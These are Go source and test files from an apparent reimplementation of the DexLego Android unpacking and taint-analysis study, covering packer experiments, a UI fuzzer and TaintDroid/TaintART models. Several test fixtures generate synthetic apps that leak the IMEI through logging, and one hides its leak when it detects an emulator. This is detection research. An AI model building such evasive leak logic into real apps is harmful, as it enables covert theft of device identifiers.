	if s := experiments.Table7String(res); len(s) < 100 {
		t.Errorf("short rendering: %q", s)
	}
}

func TestFigure6Shape(t *testing.T) {
	res, err := experiments.RunFigure6()
	if err != nil {
		t.Fatal(err)
	}
	java, native, overall := res.Slowdowns()
	// The absolute factors are host-dependent; the paper's shape is a large
	// Java slowdown, a small native one, and an overall between the two.
	// The predecoded handler-table interpreter narrowed the instrumented
	// gap below the paper's (the collector shares the predecoded stream
	// instead of re-decoding per instruction), so the Java bound is looser
	// than Fig. 6's ~7.5x — the ordering assertions below carry the shape.
	if java < 1.2 {
		t.Errorf("java slowdown = %.2fx, want substantial (>1.2x)", java)
	}
	if native > 1.3 {
		t.Errorf("native slowdown = %.2fx, want near 1x", native)
	}
	if !(overall > native && overall < java) {
		t.Errorf("overall %.2fx not between native %.2fx and java %.2fx", overall, native, java)
	}
	if s := res.Figure6String(); len(s) < 100 {
		t.Errorf("short rendering: %q", s)
	}
}

func TestTable8Shape(t *testing.T) {
	rows, err := experiments.RunTable8(8)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("rows = %d, want 3", len(rows))
	}
	for _, row := range rows {
		s := row.Slowdown()
		// The paper reports ~2x; allow headroom for host variance.
		if s < 1.3 || s > 6 {
			t.Errorf("%s launch slowdown = %.1fx, want roughly 2-3x", row.App, s)
		}
		if row.Orig.Mean <= 0 || row.DexLego.Mean <= row.Orig.Mean {
			t.Errorf("%s: implausible means %v -> %v", row.App, row.Orig.Mean, row.DexLego.Mean)
		}
	}
	if s := experiments.Table8String(rows); len(s) < 100 {
		t.Errorf("short rendering: %q", s)
	}
}

// TestTable7ExceptionEdgeAblation verifies the future-work extension
// recovers handler coverage beyond the paper's force-execution prototype.
func TestTable7ExceptionEdgeAblation(t *testing.T) {
	base, err := experiments.RunTable7()
	if err != nil {
		t.Fatal(err)
	}
	ext, err := experiments.RunTable7ExceptionEdges()
	if err != nil {
		t.Fatal(err)
	}
	// Handlers are a small instruction share, so compare raw covered
	// counts across the suite rather than integer-rounded averages.
	sum := func(r *experiments.Table7Result) (covered int) {
		for _, pa := range r.PerApp {
			covered += pa.Forced.Instruction.Covered
		}
		return covered
	}
	baseCov, extCov := sum(base), sum(ext)
	if extCov <= baseCov {
		t.Errorf("exception-edge forcing did not raise covered instructions: %d -> %d",
			baseCov, extCov)
	}
}
