package experiments

import (
	"fmt"
	"sort"
	"strings"

	"dexlego/internal/art"
	"dexlego/internal/dex"
	"dexlego/internal/packer"
	"dexlego/internal/taint"
	"dexlego/internal/workload"

	root "dexlego"
)

// Table1Result is the packer-compatibility matrix of Table I.
type Table1Result struct {
	Apps        []string
	InsnCounts  map[string]int
	Success     map[string]map[string]bool // packer -> app -> DexLego success
	Unavailable map[string]string          // service -> reason
}

// RunTable1 packs each AOSP application with every packer and verifies that
// DexLego unpacks and reconstructs it: the revealed APK must reload and
// reproduce the original's logged checksum.
func RunTable1() (*Table1Result, error) {
	apps, err := workload.AOSPApps()
	if err != nil {
		return nil, err
	}
	res := &Table1Result{
		InsnCounts:  map[string]int{},
		Success:     map[string]map[string]bool{},
		Unavailable: map[string]string{},
	}
	for _, app := range apps {
		res.Apps = append(res.Apps, app.Name)
		res.InsnCounts[app.Name] = app.Insns
	}
	for _, pk := range packer.All() {
		res.Success[pk.Name()] = map[string]bool{}
		for _, app := range apps {
			ok, err := revealMatchesOriginal(app, pk)
			if err != nil {
				return nil, fmt.Errorf("%s/%s: %w", pk.Name(), app.Name, err)
			}
			res.Success[pk.Name()][app.Name] = ok
		}
	}
	for name, serr := range packer.UnavailableServices() {
		res.Unavailable[name] = serr.Error()
	}
	return res, nil
}

// revealMatchesOriginal packs the app, reveals it with DexLego, and checks
// behavioral equivalence through the logged checksum.
func revealMatchesOriginal(app workload.App, pk packer.Packer) (bool, error) {
	checksum := func(rt *art.Runtime) (string, error) {
		if _, err := rt.LaunchActivity(); err != nil {
			return "", err
		}
		for _, ev := range rt.Sinks() {
			if len(ev.Args) == 2 && ev.Args[0] == "checksum" {
				return ev.Args[1], nil
			}
		}
		return "", fmt.Errorf("no checksum logged")
	}

	// Original behavior.
	rt := art.NewRuntime(art.DefaultPhone())
	if err := rt.LoadAPK(app.APK); err != nil {
		return false, err
	}
	want, err := checksum(rt)
	if err != nil {
		return false, err
	}

	packed, err := pk.Pack(app.APK)
	if err != nil {
		return false, err
	}
	revealed, err := root.Reveal(packed, root.Options{InstallNatives: pk.InstallNatives})
	if err != nil {
		return false, err
	}
	// The revealed APK keeps the shell manifest; the shell's natives drive
	// the redirect exactly as on-device.
	rt2 := art.NewRuntime(art.DefaultPhone())
	pk.InstallNatives(rt2)
	if err := rt2.LoadAPK(revealed.Revealed); err != nil {
		return false, err
	}
	got, err := checksum(rt2)
	if err != nil {
		return false, err
	}
	if got != want {
		return false, nil
	}
	// The revealed DEX must carry the unpacked application classes.
	if revealed.RevealedDex.FindClass("Laosp/"+app.Name+";") == nil {
		return false, nil
	}
	return true, nil
}

// Table1String renders Table I.
func (r *Table1Result) Table1String() string {
	var sb strings.Builder
	sb.WriteString("Table I: Test Result of Different Packers\n")
	fmt.Fprintf(&sb, "%-18s", "Applications")
	for _, app := range r.Apps {
		fmt.Fprintf(&sb, " %12s", app)
	}
	sb.WriteByte('\n')
	fmt.Fprintf(&sb, "%-18s", "# of Instructions")
	for _, app := range r.Apps {
		fmt.Fprintf(&sb, " %12d", r.InsnCounts[app])
	}
	sb.WriteByte('\n')
	var packers []string
	for name := range r.Success {
		packers = append(packers, name)
	}
	sort.Strings(packers)
	for _, name := range packers {
		fmt.Fprintf(&sb, "%-18s", name)
		for _, app := range r.Apps {
			mark := "X"
			if r.Success[name][app] {
				mark = "OK"
			}
			fmt.Fprintf(&sb, " %12s", mark)
		}
		sb.WriteByte('\n')
	}
	var svcs []string
	for name := range r.Unavailable {
		svcs = append(svcs, name)
	}
	sort.Strings(svcs)
	for _, name := range svcs {
		fmt.Fprintf(&sb, "%-18s %s\n", name, r.Unavailable[name])
	}
	return sb.String()
}

// Table5Row is one market application of Table V.
type Table5Row struct {
	Package  string
	Version  string
	Set      string
	Installs string
	Original int // flows FlowDroid finds in the packed APK
	Revealed int // flows FlowDroid finds after DexLego
}

// RunTable5 analyzes the nine packed market applications with FlowDroid
// before and after DexLego processing.
func RunTable5() ([]Table5Row, error) {
	apps, err := workload.MarketApps()
	if err != nil {
		return nil, err
	}
	var rows []Table5Row
	for _, app := range apps {
		row := Table5Row{
			Package: app.Package, Version: app.Version,
			Set: app.Set, Installs: app.Installs,
		}
		orig, err := analysisInput(app.Packed)
		if err != nil {
			return nil, err
		}
		origRes, err := taint.Analyze(orig, taint.FlowDroid())
		if err != nil {
			return nil, err
		}
		row.Original = origRes.Count()

		revealed, err := root.Reveal(app.Packed, root.Options{
			InstallNatives: app.Packer.InstallNatives,
		})
		if err != nil {
			return nil, fmt.Errorf("%s: %w", app.Package, err)
		}
		revRes, err := taint.Analyze([]*dex.File{revealed.RevealedDex}, taint.FlowDroid())
		if err != nil {
			return nil, err
		}
		row.Revealed = revRes.Count()
		rows = append(rows, row)
	}
	return rows, nil
}

// Table5String renders Table V.
func Table5String(rows []Table5Row) string {
	var sb strings.Builder
	sb.WriteString("Table V: Analysis Result of Packed Real-world Applications\n")
	fmt.Fprintf(&sb, "%-30s %-10s %-4s %-14s %9s %9s\n",
		"Package Name", "Version", "Set", "# of Installs", "Original", "Revealed")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-30s %-10s %-4s %-14s %9d %9d\n",
			r.Package, r.Version, r.Set, r.Installs, r.Original, r.Revealed)
	}
	return sb.String()
}
