package experiments

import (
	"fmt"
	"sort"
	"strings"

	"dexlego/internal/art"
	"dexlego/internal/dex"
	"dexlego/internal/packer"
	"dexlego/internal/pipeline"
	"dexlego/internal/taint"
	"dexlego/internal/workload"

	root "dexlego"
)

// Table1Result is the packer-compatibility matrix of Table I.
type Table1Result struct {
	Apps        []string
	InsnCounts  map[string]int
	Success     map[string]map[string]bool // packer -> app -> DexLego success
	Unavailable map[string]string          // service -> reason
}

// RunTable1 packs each AOSP application with every packer and verifies that
// DexLego unpacks and reconstructs it: the revealed APK must reload and
// reproduce the original's logged checksum. The packer x app matrix runs
// over the batch pipeline with GOMAXPROCS workers.
func RunTable1() (*Table1Result, error) { return RunTable1Jobs(0) }

// RunTable1Jobs is RunTable1 with an explicit worker cap (<= 0 selects
// runtime.GOMAXPROCS). Every cell of the matrix is an independent
// pack-reveal-verify unit, so the result is identical for any cap.
func RunTable1Jobs(workers int) (*Table1Result, error) {
	apps, err := workload.AOSPApps()
	if err != nil {
		return nil, err
	}
	res := &Table1Result{
		InsnCounts:  map[string]int{},
		Success:     map[string]map[string]bool{},
		Unavailable: map[string]string{},
	}
	for _, app := range apps {
		res.Apps = append(res.Apps, app.Name)
		res.InsnCounts[app.Name] = app.Insns
	}
	packers := packer.All()
	type cell struct{ pk, app int }
	cells := make([]cell, 0, len(packers)*len(apps))
	for pi := range packers {
		for ai := range apps {
			cells = append(cells, cell{pi, ai})
		}
	}
	oks, errs := pipeline.Map(pipeline.New(workers), len(cells), func(i int) (bool, error) {
		c := cells[i]
		return revealMatchesOriginal(apps[c.app], packers[c.pk])
	})
	for i, err := range errs {
		if err != nil {
			c := cells[i]
			return nil, fmt.Errorf("%s/%s: %w", packers[c.pk].Name(), apps[c.app].Name, err)
		}
	}
	for i, ok := range oks {
		c := cells[i]
		m := res.Success[packers[c.pk].Name()]
		if m == nil {
			m = map[string]bool{}
			res.Success[packers[c.pk].Name()] = m
		}
		m[apps[c.app].Name] = ok
	}
	for name, serr := range packer.UnavailableServices() {
		res.Unavailable[name] = serr.Error()
	}
	return res, nil
}

// revealMatchesOriginal packs the app, reveals it with DexLego, and checks
// behavioral equivalence through the logged checksum.
func revealMatchesOriginal(app workload.App, pk packer.Packer) (bool, error) {
	checksum := func(rt *art.Runtime) (string, error) {
		if _, err := rt.LaunchActivity(); err != nil {
			return "", err
		}
		for _, ev := range rt.Sinks() {
			if len(ev.Args) == 2 && ev.Args[0] == "checksum" {
				return ev.Args[1], nil
			}
		}
		return "", fmt.Errorf("no checksum logged")
	}

	// Original behavior.
	rt := art.NewRuntime(art.DefaultPhone())
	if err := rt.LoadAPK(app.APK); err != nil {
		return false, err
	}
	want, err := checksum(rt)
	if err != nil {
		return false, err
	}

	packed, err := pk.Pack(app.APK)
	if err != nil {
		return false, err
	}
	revealed, err := root.Reveal(packed, root.Options{InstallNatives: pk.InstallNatives})
	if err != nil {
		return false, err
	}
	// The revealed APK keeps the shell manifest; the shell's natives drive
	// the redirect exactly as on-device.
	rt2 := art.NewRuntime(art.DefaultPhone())
	pk.InstallNatives(rt2)
	if err := rt2.LoadAPK(revealed.Revealed); err != nil {
		return false, err
	}
	got, err := checksum(rt2)
	if err != nil {
		return false, err
	}
	if got != want {
		return false, nil
	}
	// The revealed DEX must carry the unpacked application classes.
	if revealed.RevealedDex.FindClass("Laosp/"+app.Name+";") == nil {
		return false, nil
	}
	return true, nil
}

// Table1String renders Table I.
func (r *Table1Result) Table1String() string {
	var sb strings.Builder
	sb.WriteString("Table I: Test Result of Different Packers\n")
	fmt.Fprintf(&sb, "%-18s", "Applications")
	for _, app := range r.Apps {
		fmt.Fprintf(&sb, " %12s", app)
	}
	sb.WriteByte('\n')
	fmt.Fprintf(&sb, "%-18s", "# of Instructions")
	for _, app := range r.Apps {
		fmt.Fprintf(&sb, " %12d", r.InsnCounts[app])
	}
	sb.WriteByte('\n')
	var packers []string
	for name := range r.Success {
		packers = append(packers, name)
	}
	sort.Strings(packers)
	for _, name := range packers {
		fmt.Fprintf(&sb, "%-18s", name)
		for _, app := range r.Apps {
			mark := "X"
			if r.Success[name][app] {
				mark = "OK"
			}
			fmt.Fprintf(&sb, " %12s", mark)
		}
		sb.WriteByte('\n')
	}
	var svcs []string
	for name := range r.Unavailable {
		svcs = append(svcs, name)
	}
	sort.Strings(svcs)
	for _, name := range svcs {
		fmt.Fprintf(&sb, "%-18s %s\n", name, r.Unavailable[name])
	}
	return sb.String()
}

// Table5Row is one market application of Table V.
type Table5Row struct {
	Package  string
	Version  string
	Set      string
	Installs string
	Original int // flows FlowDroid finds in the packed APK
	Revealed int // flows FlowDroid finds after DexLego
}

// RunTable5 analyzes the nine packed market applications with FlowDroid
// before and after DexLego processing, revealing the corpus over the batch
// pipeline with GOMAXPROCS workers.
func RunTable5() ([]Table5Row, error) {
	rows, _, err := RunTable5Batch(0)
	return rows, err
}

// RunTable5Batch is RunTable5 with an explicit worker cap (<= 0 selects
// runtime.GOMAXPROCS). It also returns the batch report with per-app stage
// metrics. Rows are always in Table V order, whatever the completion
// order.
func RunTable5Batch(workers int) ([]Table5Row, *pipeline.Report, error) {
	apps, err := workload.MarketApps()
	if err != nil {
		return nil, nil, err
	}
	jobs := make([]root.BatchJob, len(apps))
	for i, app := range apps {
		jobs[i] = root.BatchJob{
			Name:    app.Package,
			APK:     app.Packed,
			Options: root.Options{InstallNatives: app.Packer.InstallNatives},
		}
	}
	batch := root.RevealBatch(jobs, workers)
	if err := batch.FirstError(); err != nil {
		return nil, nil, err
	}
	var rows []Table5Row
	for i, app := range apps {
		row := Table5Row{
			Package: app.Package, Version: app.Version,
			Set: app.Set, Installs: app.Installs,
		}
		orig, err := analysisInput(app.Packed)
		if err != nil {
			return nil, nil, err
		}
		origRes, err := taint.Analyze(orig, taint.FlowDroid())
		if err != nil {
			return nil, nil, err
		}
		row.Original = origRes.Count()

		revRes, err := taint.Analyze(
			[]*dex.File{batch.Items[i].Result.RevealedDex}, taint.FlowDroid())
		if err != nil {
			return nil, nil, err
		}
		row.Revealed = revRes.Count()
		rows = append(rows, row)
	}
	return rows, batch.Report, nil
}

// Table5String renders Table V.
func Table5String(rows []Table5Row) string {
	var sb strings.Builder
	sb.WriteString("Table V: Analysis Result of Packed Real-world Applications\n")
	fmt.Fprintf(&sb, "%-30s %-10s %-4s %-14s %9s %9s\n",
		"Package Name", "Version", "Set", "# of Installs", "Original", "Revealed")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%-30s %-10s %-4s %-14s %9d %9d\n",
			r.Package, r.Version, r.Set, r.Installs, r.Original, r.Revealed)
	}
	return sb.String()
}
