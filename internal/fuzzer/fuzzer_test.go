package fuzzer_test

import (
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/fuzzer"
)

// buildFuzzTarget has a click handler and an extras-gated branch that only
// a dictionary value opens.
func buildFuzzTarget(t *testing.T) (*dex.File, func() *art.Runtime) {
	t.Helper()
	p := dexgen.New()
	listener := p.Class("Lfz/L;", "", "Landroid/view/View$OnClickListener;")
	listener.Ctor("Ljava/lang/Object;", nil)
	listener.Field("act", "Landroid/app/Activity;")
	listener.Virtual("onClick", "V", []string{"Landroid/view/View;"}, func(a *dexgen.Asm) {
		a.IGetObject(0, a.This(), "Lfz/L;", "act", "Landroid/app/Activity;")
		a.InvokeVirtual("Landroid/app/Activity;", "getIntent",
			"()Landroid/content/Intent;", 0)
		a.MoveResultObject(1)
		a.ConstString(2, "cmd")
		a.InvokeVirtual("Landroid/content/Intent;", "getStringExtra",
			"(Ljava/lang/String;)Ljava/lang/String;", 1, 2)
		a.MoveResultObject(3)
		a.ConstString(4, "admin") // in the default dictionary
		a.InvokeVirtual("Ljava/lang/String;", "equals",
			"(Ljava/lang/Object;)Z", 4, 3)
		a.MoveResult(5)
		a.IfZ(bytecode.OpIfEqz, 5, "out")
		a.InvokeStatic("Lfz/Gated;", "hit", "()V")
		a.Label("out")
		a.ReturnVoid()
	})
	gated := p.Class("Lfz/Gated;", "")
	gated.Static("hit", "V", nil, func(a *dexgen.Asm) {
		a.Nop()
		a.ReturnVoid()
	})
	main := p.Class("Lfz/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.Const(0, 1)
		a.InvokeVirtual("Landroid/app/Activity;", "findViewById",
			"(I)Landroid/view/View;", a.This(), 0)
		a.MoveResultObject(1)
		a.NewInstance(2, "Lfz/L;")
		a.InvokeDirect("Lfz/L;", "<init>", "()V", 2)
		a.IPutObject(a.This(), 2, "Lfz/L;", "act", "Landroid/app/Activity;")
		a.InvokeVirtual("Landroid/view/View;", "setOnClickListener",
			"(Landroid/view/View$OnClickListener;)V", 1, 2)
		a.ReturnVoid()
	})
	data, err := p.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := dex.Read(data)
	if err != nil {
		t.Fatal(err)
	}
	mk := func() *art.Runtime {
		rt := art.NewRuntime(art.DefaultPhone())
		pkg := dexAPK(t, data)
		if err := rt.LoadAPK(pkg); err != nil {
			t.Fatal(err)
		}
		return rt
	}
	return f, mk
}

func dexAPK(t *testing.T, data []byte) *apk.APK {
	t.Helper()
	pkg := apk.New("fz", "1", "Lfz/Main;")
	pkg.SetDex(data)
	return pkg
}

func TestFuzzerReachesDictionaryGatedCode(t *testing.T) {
	f, mk := buildFuzzTarget(t)
	tracker, err := coverage.NewTracker([]*dex.File{f})
	if err != nil {
		t.Fatal(err)
	}
	rt := mk()
	rt.AddHooks(tracker.Hooks())
	fz := fuzzer.New(3)
	fz.Episodes = 30 // enough draws to hit "admin" from the dictionary
	if err := fz.Drive(rt, tracker); err != nil {
		t.Fatal(err)
	}
	rep := tracker.Report()
	if rep.Method.Covered < 4 {
		t.Errorf("fuzzer covered %d methods: %+v", rep.Method.Covered, rep)
	}
	// The gated hit() must be reachable via dictionary extras + clicking.
	if rep.Class.Covered != rep.Class.Total {
		t.Errorf("dictionary-gated class not reached: %+v", rep)
	}
}

func TestFuzzerDeterministicPerSeed(t *testing.T) {
	f, mk := buildFuzzTarget(t)
	runOnce := func(seed int64) int {
		tracker, err := coverage.NewTracker([]*dex.File{f})
		if err != nil {
			t.Fatal(err)
		}
		rt := mk()
		rt.AddHooks(tracker.Hooks())
		if err := fuzzer.New(seed).Drive(rt, tracker); err != nil {
			t.Fatal(err)
		}
		return tracker.Report().Instruction.Covered
	}
	if runOnce(5) != runOnce(5) {
		t.Error("same seed produced different coverage")
	}
}
