// Package fuzzer implements the Sapienz stand-in: a seeded, search-based UI
// event fuzzer. It repeatedly launches the application with randomized
// intent extras and fires random sequences of click events, keeping the
// episodes that improved coverage (a lightweight take on Sapienz's
// multi-objective search). It is deliberately input-driven only — the gap
// between what it reaches and what force execution reaches is the subject
// of the paper's Table VII.
package fuzzer

import (
	"math/rand"

	"dexlego/internal/art"
	"dexlego/internal/coverage"
)

// Fuzzer drives an application with random UI input.
type Fuzzer struct {
	Seed     int64
	Episodes int      // independent launch episodes
	Events   int      // click events per episode
	Dict     []string // candidate intent-extra values
}

// New returns a fuzzer with the defaults used by the experiments.
func New(seed int64) *Fuzzer {
	return &Fuzzer{
		Seed:     seed,
		Episodes: 12,
		Events:   10,
		Dict:     []string{"", "0", "1", "42", "admin", "test", "fuzz", "-1"},
	}
}

// Drive runs the configured episodes against the runtime. Crashes inside an
// episode abort that episode only, mirroring a monkey runner. When a
// coverage tracker is supplied, episodes that do not improve instruction
// coverage are given fewer follow-up events (the search-based heuristic).
func (f *Fuzzer) Drive(rt *art.Runtime, tracker *coverage.Tracker) error {
	rng := rand.New(rand.NewSource(f.Seed))
	best := 0
	for ep := 0; ep < f.Episodes; ep++ {
		extras := map[string]string{
			"cmd":   f.Dict[rng.Intn(len(f.Dict))],
			"input": f.Dict[rng.Intn(len(f.Dict))],
			"n":     f.Dict[rng.Intn(len(f.Dict))],
		}
		rt.SetIntentExtras(extras)
		if _, err := rt.LaunchActivity(); err != nil {
			continue // app crash: next episode
		}
		events := f.Events
		if tracker != nil && ep > 0 {
			cur := tracker.Report().Instruction.Covered
			if cur <= best {
				events = f.Events / 2 // low-fitness episode, spend less
			}
			best = max(best, cur)
		}
		for e := 0; e < events; e++ {
			clickables := rt.Clickables()
			if len(clickables) == 0 {
				break
			}
			id := clickables[rng.Intn(len(clickables))]
			if err := rt.PerformClick(id); err != nil {
				break // crash in a handler ends the episode
			}
		}
	}
	return nil
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}
