package dyntaint_test

import (
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dexgen"
	"dexlego/internal/dyntaint"
)

func buildApp(t *testing.T, gen func(cls *dexgen.Class)) *apk.APK {
	t.Helper()
	p := dexgen.New()
	cls := p.Class("Ldt/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	gen(cls)
	pkg, err := p.BuildAPK("dt", "1.0", "Ldt/Main;")
	if err != nil {
		t.Fatal(err)
	}
	return pkg
}

func TestDirectLeakDetected(t *testing.T) {
	pkg := buildApp(t, func(cls *dexgen.Class) {
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			a.GetIMEI(0, 1)
			a.LogLeak("t", 0, 2)
			a.ReturnVoid()
		})
	})
	for _, tool := range []dyntaint.Tool{dyntaint.TaintDroid(), dyntaint.TaintART()} {
		rep, err := tool.Analyze(pkg, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		if rep.Count() != 1 {
			t.Errorf("%s leaks = %d, want 1", tool.Name, rep.Count())
		}
	}
}

func TestImplicitFlowMissedByBoth(t *testing.T) {
	pkg := buildApp(t, func(cls *dexgen.Class) {
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			a.GetIMEI(0, 1)
			a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 0)
			a.MoveResult(2)
			a.Const(3, 15)
			a.If(bytecode.OpIfNe, 2, 3, "other")
			a.ConstString(4, "len-is-15") // implicit information about IMEI
			a.LogLeak("t", 4, 5)
			a.ReturnVoid()
			a.Label("other")
			a.ConstString(4, "len-other")
			a.LogLeak("t", 4, 5)
			a.ReturnVoid()
		})
	})
	for _, tool := range []dyntaint.Tool{dyntaint.TaintDroid(), dyntaint.TaintART()} {
		rep, err := tool.Analyze(pkg, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		if rep.Count() != 0 {
			t.Errorf("%s leaks = %d, want 0 (implicit flows untracked)", tool.Name, rep.Count())
		}
	}
}

func TestEmulatorDetectionEvadesTaintDroid(t *testing.T) {
	pkg := buildApp(t, func(cls *dexgen.Class) {
		cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
			a.SGetObject(0, "Landroid/os/Build;", "HARDWARE", "Ljava/lang/String;")
			a.ConstString(1, "goldfish")
			a.InvokeVirtual("Ljava/lang/String;", "equals", "(Ljava/lang/Object;)Z", 0, 1)
			a.MoveResult(2)
			a.IfZ(bytecode.OpIfNez, 2, "bail") // emulator: stay quiet
			a.GetIMEI(3, 4)
			a.LogLeak("t", 3, 5)
			a.Label("bail")
			a.ReturnVoid()
		})
	})
	td, err := dyntaint.TaintDroid().Analyze(pkg, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	ta, err := dyntaint.TaintART().Analyze(pkg, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if td.Count() != 0 {
		t.Errorf("TaintDroid leaks = %d, want 0 (emulator detected)", td.Count())
	}
	if ta.Count() != 1 {
		t.Errorf("TaintART leaks = %d, want 1 (real device)", ta.Count())
	}
}

func TestCallbackLeakMissedWithoutUIDriver(t *testing.T) {
	p := dexgen.New()
	listener := p.Class("Ldt/L;", "", "Landroid/view/View$OnClickListener;")
	listener.Ctor("Ljava/lang/Object;", nil)
	listener.Field("act", "Ldt/Main;")
	listener.Virtual("onClick", "V", []string{"Landroid/view/View;"}, func(a *dexgen.Asm) {
		a.IGetObject(0, a.This(), "Ldt/L;", "act", "Ldt/Main;")
		a.ConstString(1, "phone")
		a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
			"(Ljava/lang/String;)Ljava/lang/Object;", 0, 1)
		a.MoveResultObject(1)
		a.CheckCast(1, "Landroid/telephony/TelephonyManager;")
		a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
			"()Ljava/lang/String;", 1)
		a.MoveResultObject(2)
		a.LogLeak("t", 2, 3)
		a.ReturnVoid()
	})
	main := p.Class("Ldt/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.Const(0, 7)
		a.InvokeVirtual("Landroid/app/Activity;", "findViewById", "(I)Landroid/view/View;", a.This(), 0)
		a.MoveResultObject(1)
		a.NewInstance(2, "Ldt/L;")
		a.InvokeDirect("Ldt/L;", "<init>", "()V", 2)
		a.IPutObject(a.This(), 2, "Ldt/L;", "act", "Ldt/Main;")
		a.InvokeVirtual("Landroid/view/View;", "setOnClickListener",
			"(Landroid/view/View$OnClickListener;)V", 1, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("dt", "1.0", "Ldt/Main;")
	if err != nil {
		t.Fatal(err)
	}
	// Default driver: launch only, no clicks → leak missed.
	rep, err := dyntaint.TaintART().Analyze(pkg, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Count() != 0 {
		t.Errorf("launch-only leaks = %d, want 0", rep.Count())
	}
	// With a driver that clicks, the leak appears.
	rep, err = dyntaint.TaintART().Analyze(pkg, nil, func(rt *art.Runtime) error {
		if _, err := rt.LaunchActivity(); err != nil {
			return err
		}
		for _, id := range rt.Clickables() {
			if err := rt.PerformClick(id); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Count() != 1 {
		t.Errorf("click-driver leaks = %d, want 1", rep.Count())
	}
}
