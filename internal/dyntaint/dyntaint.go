// Package dyntaint implements the dynamic taint-analysis tools of the
// paper's Table IV: TaintDroid (OSDI'10) and TaintART (CCS'16). Both rely on
// the runtime's data-flow taint propagation; neither tracks implicit flows,
// and each only observes leaks on paths its driver actually executes — the
// two weaknesses the table demonstrates. TaintDroid additionally runs on an
// emulator, so emulator-detecting samples stay silent under it.
package dyntaint

import (
	"fmt"
	"sort"

	"dexlego/internal/apimodel"
	"dexlego/internal/apk"
	"dexlego/internal/art"
)

// Tool is one dynamic taint analysis system.
type Tool struct {
	Name   string
	Device art.Device
}

// TaintDroid returns the TaintDroid configuration (emulator-hosted Dalvik).
func TaintDroid() Tool {
	return Tool{Name: "TaintDroid", Device: art.EmulatorDevice()}
}

// TaintART returns the TaintART configuration (real device, ART).
func TaintART() Tool {
	return Tool{Name: "TaintART", Device: art.DefaultPhone()}
}

// Leak is one distinct detected flow.
type Leak struct {
	Source apimodel.TaintKind
	Sink   apimodel.SinkKind
	Caller string
	PC     int
}

// Report is the outcome of one dynamic analysis run.
type Report struct {
	Tool  string
	Leaks []Leak
}

// Count returns the number of distinct detected leaks.
func (r *Report) Count() int { return len(r.Leaks) }

// Analyze executes the application under taint tracking. installNatives may
// register packer/JNI code (nil for plain apps); drive runs the app and
// defaults to launching the main activity with no further UI input — the
// limited coverage that makes dynamic tools miss callback-gated leaks.
func (t Tool) Analyze(pkg *apk.APK, installNatives func(*art.Runtime), drive func(*art.Runtime) error) (*Report, error) {
	rt := art.NewRuntime(t.Device)
	if installNatives != nil {
		installNatives(rt)
	}
	if err := rt.LoadAPK(pkg); err != nil {
		return nil, fmt.Errorf("dyntaint: %s: %w", t.Name, err)
	}
	if drive == nil {
		drive = func(rt *art.Runtime) error {
			_, err := rt.LaunchActivity()
			return err
		}
	}
	// Crashes after partial execution still yield the leaks seen so far.
	_ = drive(rt)
	rep := &Report{Tool: t.Name}
	seen := make(map[Leak]bool)
	for _, ev := range rt.Sinks() {
		if !ev.Leaky() {
			continue
		}
		for _, src := range []apimodel.TaintKind{
			apimodel.TaintIMEI, apimodel.TaintSIM, apimodel.TaintLocation,
			apimodel.TaintSSID, apimodel.TaintContacts,
			apimodel.TaintFileContent, apimodel.TaintGeneric,
		} {
			if !ev.Taint.Has(src) {
				continue
			}
			l := Leak{Source: src, Sink: ev.Sink, Caller: ev.Caller, PC: ev.CallerPC}
			if !seen[l] {
				seen[l] = true
				rep.Leaks = append(rep.Leaks, l)
			}
		}
	}
	sort.Slice(rep.Leaks, func(i, j int) bool {
		a, b := rep.Leaks[i], rep.Leaks[j]
		if a.Caller != b.Caller {
			return a.Caller < b.Caller
		}
		return a.PC < b.PC
	})
	return rep, nil
}
