package dex

import (
	"bytes"
	"errors"
	"hash/adler32"
	"math/rand"
	"testing"

	"dexlego/internal/bytecode"
)

func TestAdler32Combine(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for trial := 0; trial < 50; trial++ {
		n := rng.Intn(200000)
		buf := make([]byte, n)
		rng.Read(buf)
		split := 0
		if n > 0 {
			split = rng.Intn(n)
		}
		want := adler32.Checksum(buf)
		got := adler32Combine(
			adler32.Checksum(buf[:split]),
			adler32.Checksum(buf[split:]),
			int64(n-split),
		)
		if got != want {
			t.Fatalf("trial %d (n=%d split=%d): combine = %#x, direct = %#x",
				trial, n, split, got, want)
		}
	}
}

func TestWriteStreamByteIdentical(t *testing.T) {
	f := buildSampleFile(t)
	want, err := f.Write()
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	n, err := f.WriteStream(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != int64(len(want)) {
		t.Fatalf("WriteStream reported %d bytes, Write produced %d", n, len(want))
	}
	if !bytes.Equal(buf.Bytes(), want) {
